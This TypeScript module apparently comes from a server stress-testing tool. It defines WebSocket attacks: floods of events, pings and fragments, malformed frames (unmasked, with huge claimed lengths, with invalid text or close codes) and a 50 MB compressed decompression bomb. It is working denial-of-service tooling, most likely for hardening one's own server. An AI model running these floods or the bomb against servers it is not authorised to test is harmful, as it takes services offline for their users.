import { deflateRawSync } from 'node:zlib';
import type { Attack } from '../attacker.ts';
import { frame, frameHeader, heads, lazily, times } from '../frames.ts';

interface Flood {
  /** What is sent again and again, and how many frames that is. */
  bytes: () => Buffer;
  packets: number;
  places?: number;
  joins?: boolean;
  /** Whether what comes back is left unread. */
  deaf?: boolean;
  /** What is sent once, before. */
  first?: Buffer;
  headers?: string;
}

const rsv1 = 0x40;
const offer = 'Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n';

/** WebSockets on which bytes are sent as fast as the node takes them, and others in their place when they are closed. */
export function flood({ bytes, packets, places = 2, joins, deaf, first, headers }: Flood): Attack {
  const batch = lazily(bytes);
  return attacker =>
    attacker.inParallel(
      places,
      async wire => {
        if (deaf) wire.stall();
        if (first) await wire.send(first);
        while (attacker.goes && (await wire.send(batch(), packets)));
      },
      () => (joins ? attacker.join() : attacker.webSocket(headers)),
    );
}

/** One broken frame on each of many WebSockets. */
function single(bytes: () => Buffer, headers?: string): Attack {
  const broken = lazily(bytes);
  return attacker =>
    attacker.inParallel(
      10,
      wire => wire.ask(broken()),
      () => attacker.webSocket(headers),
    );
}

/** Frames, whatever they hold. */
export const webSocketAttacks: Record<string, Attack> = {
  'web-socket-events': flood({ bytes: () => times(200, frame('42[1]')), packets: 200, places: 10, joins: true }),
  'web-socket-pings': flood({ bytes: () => times(200, frame('x'.repeat(100), heads.ping)), packets: 200, deaf: true }),
  'web-socket-fragments': flood({
    bytes: () => times(200, frame('a', heads.continuation)),
    packets: 200,
    first: frame('4', heads.beginning),
  }),
  'web-socket-unmasked': single(() => Buffer.concat([frameHeader(heads.text, 3, false), Buffer.from('40x')])),
  'web-socket-huge-length': single(() => Buffer.concat([frameHeader(heads.text, 2 ** 40), Buffer.alloc(4)])),
  'web-socket-claimed-length': flood({
    bytes: () => Buffer.alloc(1000, 'a'),
    packets: 1,
    places: 20,
    first: Buffer.concat([frameHeader(heads.text, 1_000_000), Buffer.alloc(4)]),
  }),
  'web-socket-odd-close': single(() => frame(Buffer.from([0x00, 0x01, 0xff, 0xfe, 0xfd]), heads.close)),
  'web-socket-bad-text': single(() => frame(Buffer.from([0x34, 0xff, 0xfe, 0xc0]))),
  'web-socket-deflate-offers': single(() => frame('40'), `${offer}${offer}`),
  'web-socket-bomb': single(() => frame(deflateRawSync(Buffer.alloc(50_000_000, 'a')), heads.text | rsv1), offer),
  'web-socket-binary': flood({
    bytes: () => times(20, frame(Buffer.alloc(10_000), heads.binary)),
    packets: 20,
    joins: true,
  }),
};
